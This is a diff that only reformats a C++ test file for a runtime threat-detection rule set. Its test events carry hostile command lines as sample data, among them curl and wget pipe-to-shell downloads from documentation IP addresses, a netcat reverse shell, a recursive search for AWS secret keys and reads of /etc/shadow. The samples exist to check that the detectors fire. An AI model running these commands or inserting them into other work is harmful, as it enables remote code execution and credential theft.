@@ -124,16 +124,20 @@ struct Case {
 
 const std::vector<Case>& cases() {
     static const std::vector<Case> c = {
-        {11, kNetSvcShell, true, {},
+        {11,
+         kNetSvcShell,
+         true,
+         {},
          {{"proc.pname", "apache2"},
           {"proc.cmdline", "sh -c curl -s http://203.0.113.50/x.sh | sh"},
           {"user.name", "www-data"},
           {"container.id", "host"}}},
         {12, kNetSvcShell, false},
-        {13, kNetSvcShell, true, {kCtrShell},
-         {{"proc.pname", "php-fpm8.2"},
-          {"container.id", "3f7a9c1e5b2d"},
-          {"k8s.ns.name", "shop"}}},
+        {13,
+         kNetSvcShell,
+         true,
+         {kCtrShell},
+         {{"proc.pname", "php-fpm8.2"}, {"container.id", "3f7a9c1e5b2d"}, {"k8s.ns.name", "shop"}}},
         {14, kNetSvcShell, false},
 
         {21, kSvcAccount, true, {}, {{"user.name", "www-data"}, {"proc.tty", 34822}}},
@@ -141,7 +145,10 @@ const std::vector<Case>& cases() {
         {23, kSvcAccount, true, {}, {{"user.name", "daemon"}, {"proc.pname", "sshd"}}},
         {24, kSvcAccount, false},
 
-        {31, kNetcat, true, {},
+        {31,
+         kNetcat,
+         true,
+         {},
          {{"proc.cmdline", "nc -e /bin/sh 203.0.113.7 4444"},
           {"container.image.repository", "ghcr.io/acme/orders-api"}}},
         {32, kNetcat, false},
@@ -153,7 +160,10 @@ const std::vector<Case>& cases() {
         {43, kKeySearch, true},
         {44, kKeySearch, false},
 
-        {51, kAwsSearch, true, {},
+        {51,
+         kAwsSearch,
+         true,
+         {},
          {{"proc.cmdline", "grep -r AWS_SECRET_ACCESS_KEY /home /root"},
           {"user.loginname", "alice"}}},
         {52, kAwsSearch, false},
@@ -165,7 +175,10 @@ const std::vector<Case>& cases() {
         {63, kWipe, true},
         {64, kWipe, false},
 
-        {71, kModCtr, true, {},
+        {71,
+         kModCtr,
+         true,
+         {},
          {{"evt.type", "finit_module"},
           {"evt.res", "SUCCESS"},
           {"proc.args", "/tmp/diamorphine.ko"},
@@ -193,40 +206,62 @@ const std::vector<Case>& cases() {
         {121, kMemfd, true, {}, {{"evt.type", "execveat"}, {"proc.pname", "python3"}}},
         {122, kMemfd, false},
 
-        {131, kNs, true, {},
+        {131,
+         kNs,
+         true,
+         {},
          {{"evt.type", "setns"}, {"fd.name", "/proc/1/ns/mnt"}, {"proc.name", "nsenter"}}},
         {132, kNs, false},
-        {133, kNs, true, {}, {{"evt.type", "unshare"}, {"evt.args", "res=0 flags=CLONE_NEWNS|CLONE_NEWUSER"}}},
+        {133,
+         kNs,
+         true,
+         {},
+         {{"evt.type", "unshare"}, {"evt.args", "res=0 flags=CLONE_NEWNS|CLONE_NEWUSER"}}},
         {134, kNs, false},
         {136, kNs, false},
 
-        {141, kCredRead, true, {},
+        {141,
+         kCredRead,
+         true,
+         {},
          {{"fd.name", "/etc/shadow"}, {"proc.aname[2]", "sudo"}, {"user.loginuid", 1000}}},
         {142, kCredRead, false},
         {143, kCredRead, true, {}, {{"fd.name", "/etc/shadow"}, {"proc.name", "python3"}}},
         {144, kCredRead, false},
         {146, kCredRead, false},
 
-        {151, kTraversal, true, {},
+        {151,
+         kTraversal,
+         true,
+         {},
          {{"fd.name", "/etc/passwd"}, {"fd.nameraw", "/var/www/html/../../../etc/passwd"}}},
         {152, kTraversal, false},
         {153, kTraversal, true, {}, {{"fd.name", "/root/.ssh/id_rsa"}, {"evt.res", "ENOENT"}}},
         {154, kTraversal, false},
         {155, kTraversal, true, {kCredRead}, {{"fd.name", "/etc/shadow"}}},
 
-        {161, kLogTrunc, true, {},
+        {161,
+         kLogTrunc,
+         true,
+         {},
          {{"fd.name", "/var/log/auth.log"}, {"evt.arg.flags", "O_WRONLY|O_CREAT|O_TRUNC"}}},
         {162, kLogTrunc, false},
         {163, kLogTrunc, true},
         {164, kLogTrunc, false},
 
-        {171, kSymlink, true, {},
+        {171,
+         kSymlink,
+         true,
+         {},
          {{"evt.arg.target", "/etc/shadow"}, {"evt.arg.linkpath", "/tmp/.s"}}},
         {172, kSymlink, false},
         {173, kSymlink, true, {}, {{"evt.arg.target", "/root/.ssh/authorized_keys"}}},
         {174, kSymlink, false},
 
-        {181, kHardlink, true, {},
+        {181,
+         kHardlink,
+         true,
+         {},
          {{"evt.arg.oldpath", "/etc/shadow"}, {"evt.arg.newpath", "/tmp/.sh"}}},
         {182, kHardlink, false},
 
@@ -243,7 +278,10 @@ const std::vector<Case>& cases() {
         {204, kEtc, false},
         {206, kEtc, false},
 
-        {211, kSsh, true, {},
+        {211,
+         kSsh,
+         true,
+         {},
          {{"fd.name", "10.0.0.5:53120->198.51.100.23:443"},
           {"fd.sip", "198.51.100.23"},
           {"fd.sport", 443}}},
@@ -252,7 +290,10 @@ const std::vector<Case>& cases() {
         {214, kSsh, false},
         {216, kSsh, false},
 
-        {221, kK8sApi, true, {},
+        {221,
+         kK8sApi,
+         true,
+         {},
          {{"fd.name", "10.244.1.23:51234->10.96.0.1:443"},
           {"proc.name", "curl"},
           {"container.image", "docker.io/library/nginx:1.25.3"}}},
@@ -261,13 +302,19 @@ const std::vector<Case>& cases() {
         {224, kK8sApi, false},
         {226, kK8sApi, false},
 
-        {231, kPacket, true, {},
+        {231,
+         kPacket,
+         true,
+         {},
          {{"evt.args", "fd=3 domain=AF_PACKET type=3 proto=768"}, {"proc.name", "tcpdump"}}},
         {232, kPacket, false},
         {234, kPacket, false},
         {236, kPacket, false},
 
-        {241, kStdio, true, {},
+        {241,
+         kStdio,
+         true,
+         {},
          {{"evt.rawres", 0},
           {"fd.name", "10.244.1.17:38512->203.0.113.7:4444"},
           {"fd.rip", "203.0.113.7"},
@@ -281,9 +328,11 @@ const std::vector<Case>& cases() {
         {253, kTtyShell, true, {kCtrShell}, {{"proc.pname", nullptr}}},
         {254, kTtyShell, false},
 
-        {261, kCtrShell, true, {},
-         {{"proc.cmdline", "sh -c wget -qO- http://203.0.113.50/a | sh"},
-          {"proc.pname", "node"}}},
+        {261,
+         kCtrShell,
+         true,
+         {},
+         {{"proc.cmdline", "sh -c wget -qO- http://203.0.113.50/a | sh"}, {"proc.pname", "node"}}},
         {262, kCtrShell, false},
         {264, kCtrShell, false},
 
@@ -295,7 +344,10 @@ const std::vector<Case>& cases() {
         {276, kPkg, false},
         {278, kPkg, false},
 
-        {281, kUpper, true, {},
+        {281,
+         kUpper,
+         true,
+         {},
          {{"proc.exepath", "/tmp/xmrig"},
           {"proc.exe", "./xmrig"},
           {"container.start_ts", 1717996400000000000ULL}}},
@@ -309,7 +361,10 @@ const std::vector<Case>& cases() {
         {302, kReleaseAgent, false},
         {304, kReleaseAgent, false},
 
-        {311, kPrivCtr, true, {},
+        {311,
+         kPrivCtr,
+         true,
+         {},
          {{"container.image", "docker.io/library/ubuntu:22.04"},
           {"container.type", "containerd"},
           {"container.id", "9b1c2d3e4f5a"}}},
@@ -404,8 +459,7 @@ TEST_F(DefaultRules, EveryRuleIsRestrictedToSomeEventTypes) {
     const auto& rs = *all_->ruleset;
     std::vector<size_t> buckets(rs.rules.size(), 0);
     for (size_t t = 0; t < events::event_type_count(); ++t)
-        for (uint32_t idx : rs.rules_for_type(static_cast<events::EventTypeId>(t)))
-            ++buckets[idx];
+        for (uint32_t idx : rs.rules_for_type(static_cast<events::EventTypeId>(t))) ++buckets[idx];
     for (size_t i = 0; i < rs.rules.size(); ++i) {
         EXPECT_GE(buckets[i], 1u) << rs.rules[i].name;
         EXPECT_LE(buckets[i], 4u) << rs.rules[i].name;
@@ -572,11 +626,11 @@ TEST_F(DefaultRules, TuningListsAndMacrosCanBeOverridden) {
         return s;
     };
     using Names = std::set<std::string>;
-    EXPECT_EQ(names(261), Names{});                           // allowed shell spawner
-    EXPECT_EQ(names(13), (Names{kNetSvcShell, kCtrShell}));   // other image: still reported
-    EXPECT_EQ(names(222), Names{kK8sApi});                    // address added by the user
-    EXPECT_EQ(names(91), Names{});                            // gdb allowed
-    EXPECT_EQ(names(93), Names{kPtrace});                     // the injector is not
+    EXPECT_EQ(names(261), Names{});                          // allowed shell spawner
+    EXPECT_EQ(names(13), (Names{kNetSvcShell, kCtrShell}));  // other image: still reported
+    EXPECT_EQ(names(222), Names{kK8sApi});                   // address added by the user
+    EXPECT_EQ(names(91), Names{});                           // gdb allowed
+    EXPECT_EQ(names(93), Names{kPtrace});                    // the injector is not
 }
 
 }  // namespace
